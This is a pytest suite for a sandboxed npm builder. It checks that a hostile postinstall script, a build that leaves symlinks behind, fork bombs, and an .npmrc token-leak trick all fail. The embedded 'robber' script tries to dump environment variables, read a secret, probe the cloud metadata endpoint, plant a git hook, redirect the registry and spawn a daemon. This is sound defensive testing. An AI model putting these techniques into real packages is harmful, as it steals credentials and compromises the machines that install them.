"""What a hostile package or build may try, in the strongest sandbox here: it gets nothing, and is ended."""

from __future__ import annotations

import asyncio
import json
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from deploymend.core.model import PackageOperation, Proof
from deploymend.shell.build_rungs import BuildLimits
from deploymend.shell.builder import SandboxedBuilder
from deploymend.shell.process import run
from deploymend.shell.sandbox import JobLimits
from deploymend.shell.toolchain import Toolchain
from deploymend.testing.folder_workspace import FolderWorkspace

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
]

MakeApp = Callable[..., FolderWorkspace]

_ROBBER = """
import { execSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
const spoils = {};
const attempt = async (name, work) => {
  try { spoils[name] = String(await work()).slice(0, 300); } catch (error) { spoils[name] = 'FAILED ' + error.code; }
};
const knock = (options) => new Promise((open, fail) => {
  const socket = net.connect({ timeout: 2000, ...options }, () => { socket.destroy(); open('OPEN'); });
  socket.on('error', fail);
  socket.on('timeout', () => { socket.destroy(); fail({ code: 'TIMEOUT' }); });
});
const tunnel = (path) => new Promise((open, fail) => {
  const proxy = new URL(process.env.HTTPS_PROXY);
  const request = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path });
  request.on('connect', (answer) => open(answer.statusCode)).on('error', fail).end();
});
const { secret, socket, port } = JSON.parse(fs.readFileSync('targets.json', 'utf8'));
await attempt('environment', () => JSON.stringify(process.env));
await attempt('secret file', () => fs.readFileSync(secret, 'utf8'));
await attempt('home', () => fs.readdirSync(os.homedir()).join());
await attempt('write outside', () => fs.writeFileSync(secret, 'owned'));
await attempt('write system', () => fs.writeFileSync('/usr/bin/owned', 'x'));
await attempt('git hook', () => {
  fs.mkdirSync('.git/hooks', { recursive: true });
  fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\nexit 1', { mode: 0o755 });
});
await attempt('own config', () => fs.appendFileSync(process.env.npm_config_userconfig, 'registry=http://x.example'));
await attempt('loopback service', () => knock({ host: '127.0.0.1', port }));
await attempt('metadata service', () => knock({ host: '169.254.169.254', port: 80 }));
await attempt('unix socket', () => knock({ path: socket }));
await attempt('other host', () => tunnel('example.com:443'));
await attempt('loopback by proxy', () => tunnel('127.0.0.1:' + port));
await attempt('processes', () => execSync('ls /proc | grep -c "^[0-9]"'));
await attempt('daemon', () => execSync('setsid sleep 4247 >/dev/null 2>&1 </dev/null &'));
await attempt('link out', () => { fs.symlinkSync(secret, 'src-link'); fs.rmSync('package-lock.json'); });
await attempt('lock link', () => fs.symlinkSync(secret, 'package-lock.json'));
console.log('SPOILS ' + JSON.stringify(spoils));
"""


async def test_an_install_script_gets_nothing(
    tmp_path: Path, toolchain: Toolchain, make_app: MakeApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No secret, no file outside, no service of this machine, no host but the registry, no process left behind."""
    monkeypatch.setenv("VERCEL_TOKEN", "s3cr3t-value")
    secret = tmp_path / "secret"
    secret.write_text("s3cr3t-value")
    server = await asyncio.start_server(lambda _r, writer: writer.close(), "127.0.0.1", 0)
    unix = await asyncio.start_unix_server(lambda _r, writer: writer.close(), tmp_path / "s")
    targets = {"secret": str(secret), "socket": str(tmp_path / "s"), "port": server.sockets[0].getsockname()[1]}
    app = make_app(
        {"robber.mjs": _ROBBER, "targets.json": json.dumps(targets)},
        scripts={"postinstall": "node robber.mjs", "build": "true"},
    )
    builder = SandboxedBuilder(cache_folder=tmp_path / "cache", toolchain=toolchain)
    async with server, unix:
        plan = await builder.plan(app)
        result = await builder.check(app, plan, Proof.BUILT)
    line = next(line for line in result.log.lines if "SPOILS" in line)
    spoils = json.loads(line.partition("SPOILS ")[2])
    assert "s3cr3t-value" not in "\n".join(result.log.lines)
    # Those that seem to work do so on the job's own disk and in its own /tmp; what they came to is asserted below.
    own = {"environment", "home", "write outside", "git hook", "daemon", "link out", "lock link"}
    for name in spoils.keys() - own - {"other host", "loopback by proxy", "processes"}:
        assert spoils[name].startswith("FAILED"), (name, spoils[name])
    assert (spoils["home"], spoils["other host"], spoils["loopback by proxy"]) == ("", "403", "403")
    assert int(spoils["processes"]) < 30
    assert secret.read_text() == "s3cr3t-value"
    assert await app.changes() == ()
    assert not (app.root / ".git").exists()
    listed = await run(["ps", "-eo", "args"], cwd=tmp_path, timeout_seconds=10)
    assert "sleep 4247" not in listed.output


async def test_lock_only_work_runs_no_script_of_the_project(
    tmp_path: Path, toolchain: Toolchain, make_app: MakeApp
) -> None:
    """Neither the check nor the change of a lock starts what package.json names."""
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "dependencies"), "echo OWNED > owned")
    app = make_app(scripts={**scripts, "build": "true"})
    builder = SandboxedBuilder(cache_folder=tmp_path / "cache", toolchain=toolchain)
    plan = await builder.plan(app)
    await builder.perform(app, plan, PackageOperation(kind="relock"))
    assert (await builder.check(app, plan, Proof.LOCKED)).check.passed
    assert not list((tmp_path / "cache").rglob("owned"))


async def test_a_later_check_is_not_led_astray(tmp_path: Path, toolchain: Toolchain, make_app: MakeApp) -> None:
    """Links and files that a build left in its slot do not reach outside, nor into the next result."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "index.js").write_text("mine")
    leaves = (
        f"rm -rf src node_modules; ln -s {outside} src; ln -s {outside} node_modules; mkdir locked; chmod 000 locked; "
        "rm package.json; ln -s /etc/passwd package.json"
    )
    app = make_app({"src/index.js": "theirs", "leave.sh": leaves}, scripts={"build": "sh leave.sh"})
    builder = SandboxedBuilder(cache_folder=tmp_path / "cache", toolchain=toolchain)
    plan = await builder.plan(app)
    for _ in range(2):
        assert (await builder.check(app, plan, Proof.BUILT)).check.passed
    await builder.perform(app, plan, PackageOperation(kind="relock"))
    assert (outside / "index.js").read_text() == "mine"
    assert sorted(path.name for path in outside.iterdir()) == ["index.js"]
    assert await app.changes() == ()


@pytest.mark.parametrize(
    ("script", "word"),
    [
        ("sleep 4248 & sleep 4249", "running"),
        ("yes deploymend", "running"),
        ("i=0; while [ $i -lt 900 ]; do sleep 4250 & i=$((i+1)); done; wait", "processes"),
    ],
)
async def test_a_build_that_will_not_end_is_ended(
    tmp_path: Path, toolchain: Toolchain, make_app: MakeApp, script: str, word: str
) -> None:
    """Hanging, printing without end, forking: bounded, in a bounded log, and nothing lives on."""
    app = make_app({"build.sh": script}, scripts={"build": "sh build.sh"})
    limits = BuildLimits(build_seconds=3, job=JobLimits(timeout_seconds=60, processes=200))
    builder = SandboxedBuilder(cache_folder=tmp_path / "cache", toolchain=toolchain, limits=limits)
    result = await builder.check(app, await builder.plan(app), Proof.BUILT)
    assert result.check.inconclusive
    assert word in result.check.note
    assert sum(map(len, result.log.lines)) < 20_000_000
    await asyncio.sleep(0.2)
    listed = await run(["ps", "-eo", "args"], cwd=tmp_path, timeout_seconds=10)
    assert not any(f"sleep {number}" in listed.output for number in (4248, 4249, 4250))


async def test_a_project_cannot_make_its_registry_carry_secrets(
    tmp_path: Path, toolchain: Toolchain, make_app: MakeApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An .npmrc that names a registry and a variable of ours as its password sends nothing of ours."""
    monkeypatch.setenv("VERCEL_TOKEN", "s3cr3t-value")
    heard: list[bytes] = []

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(65536))
        writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(listen, "127.0.0.1", 0, family=socket.AF_INET)
    port = server.sockets[0].getsockname()[1]
    npmrc = f"registry=http://127.0.0.1:{port}/\n//127.0.0.1:{port}/:_authToken=${{VERCEL_TOKEN}}\n"
    app = make_app({".npmrc": npmrc}, scripts={"build": "true"})
    builder = SandboxedBuilder(cache_folder=tmp_path / "cache", toolchain=toolchain)
    async with server:
        assert await builder.package_facts(app, await builder.plan(app), "left-pad") is None
    assert heard
    assert b"s3cr3t-value" not in b"".join(heard)
